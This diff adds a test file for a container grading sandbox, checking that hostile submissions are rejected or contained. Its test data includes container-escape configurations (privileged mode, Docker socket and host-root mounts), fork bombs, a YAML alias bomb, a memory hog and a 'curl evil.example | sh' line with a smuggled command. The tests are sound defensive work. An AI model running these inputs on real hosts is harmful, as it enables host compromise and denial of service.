@@ -1,0 +1,147 @@
+import { InfrastructureError, RejectedInputError } from '@kadai/errors';
+import { files, gradeOnce, log, makeLab, rejection, testGrader } from './support';
+
+// Hostile submissions against the real engine: each is rejected before anything runs (naming file,
+// line and field) or contained by the sandbox, and nothing labelled with its submission id is left.
+jest.setTimeout(180_000);
+const grader = testGrader();
+const composeLab = makeLab({ input: 'compose' }, [{ type: 'container', service: 'app' }]);
+const runLab = (checks: Array<Record<string, unknown>>) => makeLab({ input: 'run' }, checks);
+
+describe('rejected before anything runs', () => {
+  const cases: Array<[string, string, RegExp]> = [
+    ['privileged', 'services:\n  app:\n    image: busybox:1.36\n    privileged: true\n', /^compose\.yaml:4 services\.app\.privileged: privileged/],
+    ['Docker socket', 'services:\n  app:\n    image: busybox:1.36\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n', /^compose\.yaml:5 services\.app\.volumes\.0: mounting the Docker socket/],
+    ['host root bind', 'services:\n  app:\n    image: busybox:1.36\n    volumes:\n      - type: bind\n        source: /\n        target: /host\n', /^compose\.yaml:5 services\.app\.volumes\.0: bind mounts of host paths/],
+    ['host network', 'services:\n  app:\n    image: busybox:1.36\n    network_mode: host\n', /^compose\.yaml:4 services\.app\.network_mode: /],
+    ['host pid', 'services:\n  app:\n    image: busybox:1.36\n    pid: host\n', /^compose\.yaml:4 services\.app\.pid: /],
+    ['cap_add', 'services:\n  app:\n    image: busybox:1.36\n    cap_add: [SYS_ADMIN]\n', /^compose\.yaml:4 services\.app\.cap_add: adding capabilities/],
+    ['devices', 'services:\n  app:\n    image: busybox:1.36\n    devices: ["/dev/sda:/dev/sda"]\n', /^compose\.yaml:4 services\.app\.devices: host devices/],
+    ['local volume binding a host path', 'services:\n  app:\n    image: busybox:1.36\n    volumes: [data:/d]\nvolumes:\n  data:\n    driver_opts: {type: none, o: bind, device: /}\n', /^compose\.yaml:7 volumes\.data\.driver_opts: /],
+    ['hundreds of services', `services:\n${Array.from({ length: 300 }, (_, i) => `  s${i}:\n    image: busybox:1.36\n`).join('')}`, /^compose\.yaml:2 services: between 1 and 8 services/],
+    ['YAML alias bomb', ['x: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...'bcdefghi'.split('').map((c, i) => `${c}${i}: &${c} [${Array(9).fill(`*${i === 0 ? 'a' : 'bcdefghi'[i - 1]}`).join(',')}]`), 'services: {app: {image: busybox, command: *i}}'].join('\n'), /alias/],
+  ];
+  it.each(cases)('compose: %s', async (_name, text, expected) => {
+    const submission = files({ 'compose.yaml': text });
+    const issues = await rejection(grader, composeLab, submission);
+    expect(issues[0]).toMatch(expected);
+    // grade refuses it the same way, before creating anything
+    const { error, left } = await gradeOnce(grader, composeLab, submission);
+    expect(error).toBeInstanceOf(RejectedInputError);
+    expect(left).toEqual([]);
+  });
+
+  const runCases: Array<[string, string, RegExp]> = [
+    ['privileged', 'docker run -d --privileged busybox:1.36 sleep 60', /^run\.txt:1 --privileged: /],
+    ['Docker socket', 'docker run -d -v /var/run/docker.sock:/var/run/docker.sock busybox:1.36', /^run\.txt:1 -v: mounting the Docker socket/],
+    ['host root bind', 'docker run -d -v /:/host busybox:1.36', /^run\.txt:1 -v: bind mounts/],
+    ['host network', 'docker run -d --network=host busybox:1.36', /^run\.txt:1 --network: /],
+    ['host pid', 'docker run -d --pid host busybox:1.36', /^run\.txt:1 --pid: /],
+    ['cap_add', 'docker run -d --cap-add=NET_ADMIN busybox:1.36', /^run\.txt:1 --cap-add: /],
+    ['devices', 'docker run -d --device /dev/kvm busybox:1.36', /^run\.txt:1 --device: /],
+    ['a shell', 'docker run -d busybox:1.36; curl evil.example | sh', /^run\.txt:1 : shell operators/],
+  ];
+  it.each(runCases)('docker run: %s', async (_name, line, expected) => {
+    const issues = await rejection(grader, runLab([{ type: 'container' }]), files({ 'run.txt': line }));
+    expect(issues[0]).toMatch(expected);
+  });
+});
+
+describe('contained at run time (a failed check, never an infrastructure error)', () => {
+  it('a fork bomb stops at the pids limit', async () => {
+    const lab = runLab([{ type: 'logs', contains: 'still here', timeoutSeconds: 8 }]);
+    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'f(){ f | f & }; f; sleep 2; echo still here; sleep 60'` }));
+    expect(error).toBeUndefined();
+    // the shell that started the bomb keeps going: the bomb hit the container's pids limit, not the machine's
+    expect(results?.[0]?.status).toBe('pass');
+    expect(left).toEqual([]);
+  });
+
+  it('a memory hog is OOM-killed and reported as the student failure', async () => {
+    const lab = runLab([{ type: 'container' }]);
+    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d python:3.10-slim python3 -c "b = bytearray(1024 * 1024 * 1024); import time; time.sleep(60)"` }));
+    expect(error).toBeUndefined();
+    expect(results?.[0]).toMatchObject({ status: 'fail' });
+    expect(results?.[0]?.evidence).toMatch(/OOM/);
+    expect(left).toEqual([]);
+  });
+
+  it('an endless loop is limited to its CPU share and ends with the attempt', async () => {
+    const lab = runLab([{ type: 'http', port: 80, timeoutSeconds: 3 }]);
+    const { results, error, left, ms } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'while :; do :; done'` }));
+    expect(error).toBeUndefined();
+    expect(results?.[0]?.status).toBe('fail');
+    expect(ms).toBeLessThan(30_000);
+    expect(left).toEqual([]);
+  });
+
+  it('100 MB of log output is capped by the engine and in the evidence', async () => {
+    const lab = runLab([{ type: 'logs', contains: 'never printed', timeoutSeconds: 4 }]);
+    const { results, error, left } = await gradeOnce(grader, lab, files({ 'run.txt': `docker run -d busybox:1.36 sh -c 'yes 0123456789abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqrstuvwxyz | head -c 104857600; sleep 60'` }));
+    expect(error).toBeUndefined();
+    expect(results?.[0]?.status).toBe('fail');
+    expect(Buffer.byteLength(results?.[0]?.evidence ?? '')).toBeLessThanOrEqual(16 * 1024);
+    expect(left).toEqual([]);
+  });
+
+  it('has no egress at run time, but services reach each other', async () => {
+    const compose = `services:
+  app:
+    image: busybox:1.36
+    command: ["sh", "-c", "wget -T 3 -q -O- http://deb.debian.org/ >/dev/null 2>&1 && echo EGRESS-OPEN || echo EGRESS-BLOCKED; wget -T 3 -q -O- http://1.1.1.1/ >/dev/null 2>&1 && echo IP-OPEN || echo IP-BLOCKED; wget -T 3 -q -O- http://web/ >/dev/null && echo PEER-OK; sleep 60"]
+  web:
+    image: nginx:1.21
+`;
+    const lab = makeLab({ input: 'compose' }, [
+      { type: 'logs', service: 'app', contains: 'EGRESS-BLOCKED', timeoutSeconds: 15 },
+      { type: 'logs', service: 'app', contains: 'IP-BLOCKED', timeoutSeconds: 15 },
+      { type: 'logs', service: 'app', contains: 'PEER-OK', timeoutSeconds: 15 },
+    ]);
+    const { results, error, left } = await gradeOnce(grader, lab, files({ 'compose.yaml': compose }));
+    expect(error).toBeUndefined();
+    expect(results?.map((r) => r.status)).toEqual(['pass', 'pass', 'pass']);
+    expect(left).toEqual([]);
+  });
+});
+
+describe('contained at build time', () => {
+  it('a fork bomb in RUN stops at the build pids limit and fails the build', async () => {
+    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }]);
+    const dockerfile = `FROM busybox:1.36\nRUN sh -c 'f(){ f | f & }; f; sleep 3; exit 1'\n`;
+    const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: dockerfile }));
+    expect(error).toBeUndefined();
+    expect(results?.[0]?.status).toBe('fail');
+    expect(results?.[0]?.evidence).toMatch(/can't fork|Resource temporarily unavailable/);
+    expect(left).toEqual([]);
+  });
+
+  it('a build that never ends stops at the build time limit', async () => {
+    const quick = testGrader({ buildTimeoutMs: 5000 });
+    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }, { type: 'http', port: 80, timeoutSeconds: 2 }]);
+    const { results, error, left, ms } = await gradeOnce(quick, lab, files({ Dockerfile: 'FROM busybox:1.36\nRUN sleep 600\n' }));
+    expect(error).toBeUndefined();
+    expect(results?.[0]).toMatchObject({ status: 'fail' });
+    expect(results?.[0]?.message.en).toMatch(/did not finish within 5 s/);
+    expect(results?.[1]?.status).toBe('skipped');
+    expect(ms).toBeLessThan(30_000);
+    expect(left).toEqual([]);
+  });
+
+  it('a large build context builds and is cleaned up', async () => {
+    const lab = makeLab({ input: 'build', ports: [80] }, [{ type: 'build' }, { type: 'image', maxSizeMB: 50 }]);
+    const big = Buffer.alloc(8 * 1024 * 1024, 'x');
+    const { results, error, left } = await gradeOnce(grader, lab, files({ Dockerfile: 'FROM busybox:1.36\nCOPY . /ctx\n', 'blob.txt': big }));
+    expect(error).toBeUndefined();
+    expect(results?.[0]?.status).toBe('pass');
+    expect(left).toEqual([]);
+  });
+});
+
+describe('the engine', () => {
+  it('unreachable is a retryable infrastructure error, not a zero', async () => {
+    const down = testGrader({ socketPath: '/nonexistent/docker.sock' });
+    const error = await down.grade(runLab([{ type: 'container' }]), { submissionId: 'test-engine-down', files: files({ 'run.txt': 'docker run -d nginx' }) }, { signal: new AbortController().signal, log }).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(InfrastructureError);
+    expect((error as InfrastructureError).retryable).toBe(true);
+  });
+});
